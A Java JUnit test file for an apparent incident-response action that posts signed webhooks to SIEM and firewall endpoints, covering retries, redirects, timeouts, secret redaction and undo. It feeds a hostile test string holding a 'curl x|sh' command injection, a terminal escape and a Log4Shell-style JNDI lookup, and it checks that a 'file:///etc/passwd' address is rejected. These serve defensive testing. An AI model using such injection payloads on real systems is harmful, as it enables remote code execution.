package io.nightjar.actions.outside;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.NullNode;
import io.nightjar.actions.ActionRequest;
import io.nightjar.actions.Intents;
import io.nightjar.actions.NamespaceTarget;
import io.nightjar.actions.Outcome;
import io.nightjar.actions.Outcome.Failed.Kind;
import io.nightjar.actions.Parameters;
import io.nightjar.actions.PodTarget;
import io.nightjar.actions.Target;
import io.nightjar.actions.UndoOutcome;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CallWebhookTest {
  private static final Instant THREE = Instant.parse("2026-11-20T03:00:00Z");
  private static final PodTarget POD = new PodTarget("shop", "checkout-1", "uid-1");
  private static final String HOSTILE = "\";curl x|sh\n\u001b[2J${jndi:ldap://x}";

  @TempDir Path state;
  private Receiver receiver;
  private Duration timeout = Duration.ofSeconds(5);

  @BeforeEach
  void start() throws IOException {
    receiver = Receiver.answering(200, "");
  }

  @AfterEach
  void stop() {
    receiver.close();
  }

  private void receiver(Receiver started) {
    receiver.close();
    receiver = started;
  }

  private SignedPost.Address address(String path) {
    return new SignedPost.Address(receiver.url(path), "key", timeout);
  }

  private Map<String, Hook> hooks() {
    return Map.of(
        "siem", new Hook(address("/in/token-77"), null),
        "firewall", new Hook(address("/block"), address("/unblock")));
  }

  private CallWebhook once() {
    return CallWebhook.once(hooks(), new Intents(state), () -> THREE);
  }

  private CallWebhook withUndo() {
    return CallWebhook.withUndo(hooks(), new Intents(state), () -> THREE);
  }

  private static ActionRequest request(Target target, String name, boolean dryRun) {
    return new ActionRequest(
        "r-77ab",
        CallWebhook.ID,
        target,
        Parameters.NONE
            .with(CallWebhook.NAME, name)
            .with(Parameters.SEEN, List.of("rule=Shell", "commandLine=" + HOSTILE)),
        dryRun);
  }

  private static void assertFailed(Outcome outcome, Kind kind, String words) {
    assertThat(outcome)
        .isInstanceOfSatisfying(
            Outcome.Failed.class,
            failed -> {
              assertThat(failed.kind()).isEqualTo(kind);
              assertThat(failed.cause()).contains(words);
            });
  }

  @Test
  void tellsThePodAndWhatWasSeenSignedAndOnce() throws Exception {
    receiver(Receiver.answering(202, "case 4711 opened\u001b[2J"));
    Outcome.Succeeded done = (Outcome.Succeeded) once().execute(request(POD, "siem", false));
    assertThat(done.changes())
        .containsExactly(
            "told webhook siem of pod shop/checkout-1",
            "it answered 202: case 4711 opened\\u001b[2J");
    assertThat(done.beforeState().path("status").asInt()).isEqualTo(202);
    Receiver.Told told = receiver.told.getFirst();
    assertThat(told.path()).isEqualTo("/in/token-77");
    assertThat(told.idempotencyKey()).isEqualTo("r-77ab");
    assertThat(told.signature())
        .isEqualTo(
            "t="
                + THREE.getEpochSecond()
                + ",v1="
                + SignedPost.hmac("key", THREE.getEpochSecond() + "." + told.body()));
    JsonNode body = new ObjectMapper().readTree(told.body());
    assertThat(body.at("/target/uid").asText()).isEqualTo("uid-1");
    assertThat(body.at("/target/type").asText()).isEqualTo("pod");
    assertThat(body.at("/response").asText()).isEqualTo("r-77ab");
    assertThat(body.at("/seen/rule").asText()).isEqualTo("Shell");
    assertThat(body.at("/seen/commandLine").asText()).isEqualTo(HOSTILE);

    assertThat(once().execute(request(POD, "siem", false))).isInstanceOf(Outcome.NothingToDo.class);
    assertThat(receiver.told).hasSize(1);
    assertThat(once().recover(request(POD, "siem", false))).isPresent();
  }

  @Test
  void whatMayPassIsUnavailableAndComesAgainUnderTheSameKeyWithTheSameBody() throws Exception {
    receiver(
        new Receiver(
            exchange -> {
              if (receiver.told.size() == 1) {
                exchange.getResponseHeaders().set("Retry-After", "3");
                Receiver.answer(exchange, 429, "slow down");
              } else {
                Receiver.answer(exchange, receiver.told.size() == 2 ? 503 : 200, "");
              }
            }));
    Outcome first = once().execute(request(POD, "siem", false));
    assertFailed(first, Kind.UNAVAILABLE, "it answered 429: slow down");
    assertThat(((Outcome.Failed) first).retryAfter()).isEqualTo(Duration.ofSeconds(3));
    assertThat(once().recover(request(POD, "siem", false))).isEmpty();
    assertFailed(once().execute(request(POD, "siem", false)), Kind.UNAVAILABLE, "503");
    assertThat(once().execute(request(POD, "siem", false))).isInstanceOf(Outcome.Succeeded.class);
    assertThat(receiver.told).hasSize(3);
    assertThat(receiver.told.stream().distinct()).hasSize(1);
  }

  @Test
  void aRefusalAndARedirectAreFinalAndNobodyIsFollowed() throws Exception {
    receiver(
        new Receiver(
            exchange -> {
              exchange.getResponseHeaders().set("Location", "/elsewhere");
              Receiver.answer(exchange, receiver.told.size() == 1 ? 403 : 302, "no");
            }));
    assertFailed(once().execute(request(POD, "siem", false)), Kind.REFUSED, "it answered 403: no");
    assertFailed(once().execute(request(POD, "siem", false)), Kind.REFUSED, "it answered 302");
    assertThat(receiver.told).extracting(Receiver.Told::path).containsOnly("/in/token-77");
  }

  @Test
  void anAnswerThatNeverEndsIsReadForItsStartOnly() throws Exception {
    receiver(
        new Receiver(
            exchange -> {
              exchange.sendResponseHeaders(200, 0);
              byte[] much = "x".repeat(65_536).getBytes(StandardCharsets.UTF_8);
              try {
                for (int i = 0; i < 10_000; i++) {
                  exchange.getResponseBody().write(much);
                }
              } catch (IOException hungUp) {
                exchange.close();
              }
            }));
    Outcome.Succeeded done = (Outcome.Succeeded) once().execute(request(POD, "siem", false));
    assertThat(done.beforeState().path("answer").asText()).hasSize(SignedPost.MOST_OF_ANSWER);
    assertThat(done.changes().getLast().length()).isLessThan(600);
  }

  @Test
  void aBodyThatDripsForEverCostsTheTimeLimitAndNoMore() throws Exception {
    timeout = Duration.ofMillis(400);
    receiver(new Receiver(exchange -> exchange.sendResponseHeaders(200, 0)));
    assertFailed(
        once().execute(request(POD, "siem", false)), Kind.UNAVAILABLE, "may have been taken");
  }

  @Test
  void secretsAreNeverTold() throws Exception {
    receiver(Receiver.answering(500, ""));
    String whole = once().execute(request(POD, "siem", false)) + " " + hooks();
    receiver.close();
    whole += once().execute(request(POD, "siem", false));
    assertThat(whole).doesNotContain("token-77").doesNotContain("127.0.0.1");
    assertThatThrownBy(() -> SignedPost.Address.parse("ht tp://token-77"))
        .hasMessage("is not an address")
        .hasNoCause();
    assertThatThrownBy(() -> SignedPost.Address.parse("file:///etc/passwd"))
        .hasMessageStartingWith("must start with");
  }

  @Test
  void onlyWhatTheConfigurationNamesIsTold() throws Exception {
    for (String name : List.of("", "nobody", receiver.url("/x").toString())) {
      assertFailed(once().execute(request(POD, name, false)), Kind.UNSUPPORTED, "has no webhook");
    }
    assertFailed(
        once().execute(request(new NamespaceTarget("shop", "u"), "siem", false)),
        Kind.UNSUPPORTED,
        "is of a pod");
    assertThat(((Outcome.Succeeded) once().execute(request(POD, "siem", true))).changes())
        .containsExactly("dry run: tell webhook siem of pod shop/checkout-1");
    assertThat(receiver.told).isEmpty();
  }

  @Test
  void theUndoTellsItsOwnAddressOnce() throws Exception {
    ActionRequest request = request(POD, "firewall", false);
    Outcome.Succeeded done = (Outcome.Succeeded) withUndo().execute(request);
    assertThat(
            ((UndoOutcome.Undone)
                    withUndo().undo(request(POD, "firewall", true), done.beforeState()))
                .changes())
        .allMatch(change -> change.startsWith("dry run: "));
    for (int i = 0; i < 2; i++) {
      assertThat(withUndo().undo(request, done.beforeState()))
          .isInstanceOf(UndoOutcome.Undone.class);
    }
    assertThat(receiver.told).extracting(Receiver.Told::path).containsExactly("/block", "/unblock");
    assertThat(receiver.told.getLast().idempotencyKey()).isEqualTo("r-77ab-undo");
    assertThat(new ObjectMapper().readTree(receiver.told.getLast().body()).path("undo").asBoolean())
        .isTrue();
  }

  @Test
  void anUndoThatIsNotTakenFails() throws Exception {
    receiver(
        new Receiver(
            exchange -> Receiver.answer(exchange, receiver.told.size() == 1 ? 200 : 503, "")));
    ActionRequest request = request(POD, "firewall", false);
    Outcome.Succeeded done = (Outcome.Succeeded) withUndo().execute(request);
    assertThat(withUndo().undo(request, done.beforeState()))
        .isInstanceOfSatisfying(
            UndoOutcome.Failed.class,
            failed -> assertThat(failed.kind()).isEqualTo(Kind.UNAVAILABLE));
  }

  @Test
  void whatCannotBeTakenBackSaysSoBefore() throws Exception {
    assertFailed(
        withUndo().execute(request(POD, "siem", false)),
        Kind.UNSUPPORTED,
        "has no address for the undo");
    assertThat(receiver.told).isEmpty();
    assertThat(once().descriptor().reversible()).isFalse();
    assertThat(withUndo().descriptor().reversible()).isTrue();
    assertThat(once().undo(request(POD, "firewall", false), NullNode.getInstance()))
        .isInstanceOf(UndoOutcome.Failed.class);
  }

  @Test
  void knowsTheHmacOfRfc4231() {
    assertThat(SignedPost.hmac("Jefe", "what do ya want for nothing?"))
        .isEqualTo("5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
  }
}
